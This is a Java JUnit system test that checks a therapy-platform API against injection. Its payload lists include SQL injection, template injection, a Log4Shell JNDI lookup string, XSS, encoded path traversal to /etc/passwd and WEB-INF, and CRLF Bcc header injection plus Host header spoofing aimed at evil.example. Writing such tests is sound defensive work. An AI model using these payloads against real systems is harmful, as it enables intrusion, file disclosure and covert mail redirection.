package org.therapyplatform.systemtests;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import jakarta.mail.internet.MimeMessage;
import java.io.ByteArrayOutputStream;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.therapyplatform.systemtests.api.Answer;
import org.therapyplatform.systemtests.api.Api;
import org.therapyplatform.systemtests.api.Browser;
import org.therapyplatform.systemtests.api.Description;
import org.therapyplatform.systemtests.api.Description.Operation;
import org.therapyplatform.systemtests.api.Given;
import org.therapyplatform.systemtests.api.Json;
import org.therapyplatform.systemtests.api.RawConnection;
import org.therapyplatform.systemtests.api.Region;
import org.therapyplatform.systemtests.stack.Database;
import org.therapyplatform.systemtests.stack.Mailbox;

/** What looks like a program in a text is a text: it comes back as it was sent and nothing happens. */
class InjectionIT {
    /** What templates would make of the sums below; no answer, row or mail holds it otherwise. */
    private static final String EVALUATED = String.valueOf(1337 * 31337);

    /** A statement that ran would leave a table, fail, or take longer than any client waits. */
    private static final List<String> PROGRAMS = List.of(
            "'||1/0||'",
            "'; CREATE TABLE injected (); --",
            "' OR pg_sleep(60) IS NULL OR '",
            "${1337*31337}",
            "#{1337*31337}",
            "{{1337*31337}}",
            "<#assign x=1337*31337>${x}",
            "${jndi:ldap://x.invalid/y}",
            "<script>alert(1)</script>",
            "../../etc/passwd",
            "%n%s",
            "=1+1");

    private static final int UNLIMITED = 100_000;

    private final Description description = Description.read();
    private final Region region = Region.unused();

    /** Every text of every body the API's description knows, also of a route that came yesterday. */
    @Test
    void aTextIsATextInEveryFieldOfEveryBody() {
        List<String> wrong = new ArrayList<>();
        Map<String, Integer> kept = new TreeMap<>();
        int fields = 0;
        for (Operation operation : description.operations()) {
            List<Place> places = new ArrayList<>();
            texts(operation.body(), List.of(), places);
            for (Place place : places) {
                fields++;
                for (String text : packed(place.longest())) {
                    Answer answer = sent(operation, place, text);
                    fault(operation, place, text, answer).ifPresent(wrong::add);
                    if (answer.status() < 300 && answer.text().contains(Json.text(text))) {
                        kept.merge(operation.name(), 1, Integer::sum);
                    }
                }
            }
        }

        assertThat(wrong).isEmpty();
        assertThat(fields).isGreaterThan(80);
        assertThat(kept.keySet())
                .as("operations that took a program for the text it is")
                .contains("POST /api/patients", "PUT /api/patients/{id}", "POST /api/therapists", "POST /api/emails");
        assertThat(Database.count("SELECT count(*) FROM pg_tables WHERE tablename = 'injected'"))
                .isZero();
        assertThat(Database.tablesHolding(EVALUATED)).isEmpty();
    }

    /** Where a text stands in a body: the names of the members, {@code 0} for an entry of a list. */
    private record Place(List<String> path, int longest) {
        @Override
        public String toString() {
            return String.join("/", path);
        }
    }

    private void texts(JsonNode given, List<String> path, List<Place> places) {
        JsonNode schema = description.resolved(given);
        if (schema.isMissingNode()) {
            return;
        }
        schema.path("properties")
                .properties()
                .forEach(member -> texts(member.getValue(), with(path, member.getKey()), places));
        JsonNode values = schema.path("additionalProperties");
        if (values.isObject()) {
            texts(values, with(path, "1"), places);
        }
        switch (Description.type(schema)) {
            case "array" -> texts(schema.path("items"), with(path, "0"), places);
            case "string" -> places.add(new Place(path, schema.path("maxLength").asInt(UNLIMITED)));
            default -> {
                // No text.
            }
        }
    }

    private static List<String> with(List<String> path, String member) {
        List<String> longer = new ArrayList<>(path);
        longer.add(member);
        return longer;
    }

    /** All programs in as few texts as the field has room for. */
    private static List<String> packed(int longest) {
        List<String> texts = new ArrayList<>();
        String text = "";
        for (String program : PROGRAMS) {
            String longer = text.isEmpty() ? program : text + " " + program;
            if (longer.length() > longest && !text.isEmpty()) {
                texts.add(text);
                longer = program;
            }
            text = longer.length() > longest ? "" : longer;
        }
        if (!text.isEmpty()) {
            texts.add(text);
        }
        return texts;
    }

    private Answer sent(Operation operation, Place place, String text) {
        Map<String, Object> body = new LinkedHashMap<>(valid(operation));
        put(body, place.path(), text);
        String path = operation.path().substring("/api".length());
        if (path.contains("{")) {
            path = path.replaceAll("\\{\\w+}", String.valueOf(record(path)));
        }
        return Api.send(
                operation.method(), path, "application/json", Json.text(body).getBytes(StandardCharsets.UTF_8));
    }

    @SuppressWarnings("unchecked")
    private static void put(Map<String, Object> object, List<String> path, String text) {
        Object value = text;
        for (int i = path.size() - 1; i > 0; i--) {
            value = path.get(i).equals("0") ? List.of(value) : Map.of(path.get(i), value);
        }
        object.put(path.get(0), value);
    }

    /** What the operation cannot do without; a new one is tried with nothing, and must refuse that well. */
    private Map<String, Object> valid(Operation operation) {
        return switch (operation.name()) {
            case "POST /api/patients" -> Given.minimalPatient();
            case "POST /api/therapists" -> Given.therapist(region);
            case "POST /api/emails" -> mail(records.get("patients"), Given.email("p"), "n", "b", "t");
            case "POST /api/phone-calls" -> Map.of("patient_id", records.get("patients"));
            case "POST /api/platzsuchen" -> Map.of("patient_id", Given.created(Given.patient(region)));
            case "POST /api/therapeutenanfragen/erstellen-fuer-therapeut" ->
                Map.of("therapist_id", records.get("therapists"), "plz_prefix", region.prefix());
            case "PUT /api/therapeutenanfragen/{id}/antwort" ->
                Map.of("patient_responses", Map.of(String.valueOf(records.get("patients")), "angenommen"));
            default -> Map.of();
        };
    }

    private int record(String path) {
        return records.getOrDefault(path.split("/")[1], records.get("patients"));
    }

    private final Map<String, Integer> records = records();

    private Map<String, Integer> records() {
        Map<String, Integer> ids = new HashMap<>();
        Given.Seeker seeker = Given.seeker(region);
        int therapist = Given.createdTherapist(Given.therapist(region));
        ids.put("patients", seeker.patientId());
        ids.put("platzsuchen", seeker.searchId());
        ids.put("therapists", therapist);
        int inquiry = Given.inquiry(therapist, region);
        Api.post("/therapeutenanfragen/" + inquiry + "/senden").requireStatus(200);
        ids.put("therapeutenanfragen", inquiry);
        ids.put(
                "emails",
                Api.post("/emails", mail(seeker.patientId(), Given.email("p"), "n", "b", "t"))
                        .requireStatus(201)
                        .id());
        ids.put(
                "phone-calls",
                Api.post("/phone-calls", Map.of("patient_id", seeker.patientId()))
                        .requireStatus(201)
                        .id());
        return ids;
    }

    private static Optional<String> fault(Operation operation, Place place, String text, Answer answer) {
        String what = operation.name() + " " + place + " with " + text + ": ";
        if (answer.status() >= 500) {
            return Optional.of(what + answer.status());
        }
        if (answer.text().contains(EVALUATED)) {
            return Optional.of(what + "evaluated");
        }
        if (answer.status() >= 300) {
            return Optional.empty();
        }
        JsonNode stored = answer.json();
        for (String member : place.path()) {
            stored = stored.isArray() ? stored.path(0) : stored.path(member);
        }
        if (place.path().equals(List.of("inhalt_html"))) {
            // HTML is cleaned, not kept as it was sent.
            return stored.textValue().contains("<script") ? Optional.of(what + "kept a script") : Optional.empty();
        }
        // Bodies of mails are longer than what was sent: the footer.
        return stored.isTextual() && !stored.textValue().contains(text)
                ? Optional.of(what + "became " + stored.textValue())
                : Optional.empty();
    }

    @Test
    void aSearchTermIsATermAndNothingElse() {
        for (String program : PROGRAMS) {
            Api.get("/patients?search=" + Api.encoded(program)).requireStatus(200);
            Api.get("/therapists?search=" + Api.encoded(program)).requireStatus(200);
        }
    }

    @Test
    void aPatientsNameIsNoMarkupAndNoTemplateInTheMailToThem() throws Exception {
        Region region = Region.unused();
        String name = Given.unique("N") + "<b>${7*7}</b>[x](http://evil.example)";
        Given.Seeker seeker = Given.seeker(region, "nachname", name);
        Api.put("/patients/" + seeker.patientId(), Map.of("zahlung_eingegangen", true, "zahlungsreferenz", "ABC12345"))
                .requireStatus(200);

        String html = part(Mailbox.awaitMailTo(seeker.email()), "text/html");

        assertThat(html).contains("&lt;b&gt;", "${7*7}").doesNotContain("<b>${", "<b>49", "href=\"http://evil.example");
    }

    @Test
    void aLineBreakInNameOrSubjectMakesNoHeader() throws Exception {
        int patient = Given.created(Given.minimalPatient());
        List<String> queued = new ArrayList<>();
        for (String lineBreak : List.of("\r\n", "\n", "\r", "\u2028")) {
            String address = Given.email("kopfzeile");
            Map<String, Object> mail = new LinkedHashMap<>(mail(
                    patient,
                    address,
                    "Anna" + lineBreak + "Bcc: spy@evil.example",
                    "Hallo" + lineBreak + "Bcc: spy@evil.example" + lineBreak + lineBreak + "body",
                    "Text"));
            mail.put("status", "In_Warteschlange");
            Answer created = Api.post("/emails", mail);
            if (created.status() == 400) {
                continue;
            }
            created.requireStatus(201);
            queued.add(address);
        }
        for (String address : queued) {
            MimeMessage sent = Mailbox.awaitMailTo(address);
            assertThat(sent.getHeader("Bcc")).isNull();
            assertThat(sent.getAllRecipients()).hasSize(1);
        }
    }

    @Test
    void anAddressIsOneAddress() {
        int patient = Given.created(Given.minimalPatient());
        String spy = Given.email("spion");
        for (String separator : List.of("\r\nBcc: ", ", ", ";", " ")) {
            Map<String, Object> mail = mail(patient, Given.email("erste") + separator + spy, "n", "b", "t");
            Api.post("/emails", Given.with(mail, "status", "In_Warteschlange"))
                    .requireProblem(400)
                    .saying("mpfaenger_email must be one e-mail address");
        }
        String later = Given.email("danach");
        Api.post("/emails", Given.with(mail(patient, later, "n", "b", "t"), "status", "In_Warteschlange"))
                .requireStatus(201);

        Mailbox.awaitMailTo(later);

        assertThat(Mailbox.mailsTo(spy)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "..%2f..%2fetc%2fpasswd",
                "..;/..;/WEB-INF/web.xml",
                "%2e%2e%2f%2e%2e%2fWEB-INF%2fweb.xml",
                "..%5c..%5cWEB-INF%5cweb.xml",
                "%c0%ae%c0%ae/WEB-INF/web.xml",
                "1%2f..%2f2",
                "1'%20OR%20'1'='1",
            })
    void aPathLeadsNowhereElse(String segment) {
        for (String list :
                List.of("patients", "therapists", "platzsuchen", "therapeutenanfragen", "emails", "phone-calls")) {
            String answer = raw("/api/" + list + "/" + segment);
            assertThat(answer).as(list).matches("(?s)HTTP/1.1 40[04] .*").doesNotContain("web-app", "root:");
        }
        for (String directory : List.of("/", "/login.css/", "/health/")) {
            String answer = raw(directory + segment);
            assertThat(answer).as(directory).doesNotContain(" 500 ", "<web-app", "root:x");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"/WEB-INF/web.xml", "/web-inf/web.xml", "/META-INF/MANIFEST.MF", "//WEB-INF/web.xml"})
    void theInsidesOfTheApplicationAreNotServed(String path) {
        assertThat(raw(path)).doesNotContain(" 200 ", "<web-app", "Manifest-Version");
    }

    @Test
    void anotherHostNameReachesNoAnswer() {
        HttpResponse<String> plain = new Browser().get("/");
        try (RawConnection connection = new RawConnection()) {
            String answer = connection
                    .send("GET / HTTP/1.1\r\nHost: evil.example\r\nX-Forwarded-Host: evil.example\r\n"
                            + "Connection: close\r\n\r\n")
                    .answer();
            // Signing in goes on at the address the browser asked; nothing is made of the proxy's header.
            assertThat(answer.substring(answer.indexOf("\r\n\r\n"))).doesNotContain("evil.example");
        }
        assertThat(plain.body()).doesNotContain("evil.example");
    }

    private static String raw(String path) {
        try (RawConnection connection = new RawConnection()) {
            return connection
                    .send(RawConnection.head("GET", path) + "Connection: close\r\n\r\n")
                    .answer();
        }
    }

    private static Map<String, Object> mail(int patient, String address, String name, String subject, String text) {
        return Map.of(
                "patient_id", patient,
                "empfaenger_email", address,
                "empfaenger_name", name,
                "betreff", subject,
                "inhalt_text", text);
    }

    private static String part(MimeMessage mail, String type) throws Exception {
        ByteArrayOutputStream source = new ByteArrayOutputStream();
        mail.writeTo(source);
        return find(mail, type).orElseThrow(() -> new AssertionError(source.toString(StandardCharsets.UTF_8)));
    }

    private static Optional<String> find(jakarta.mail.Part part, String type) throws Exception {
        if (part.isMimeType(type)) {
            return Optional.of((String) part.getContent());
        }
        if (part.getContent() instanceof jakarta.mail.Multipart parts) {
            for (int i = 0; i < parts.getCount(); i++) {
                var found = find(parts.getBodyPart(i), type);
                if (found.isPresent()) {
                    return found;
                }
            }
        }
        return Optional.empty();
    }
}
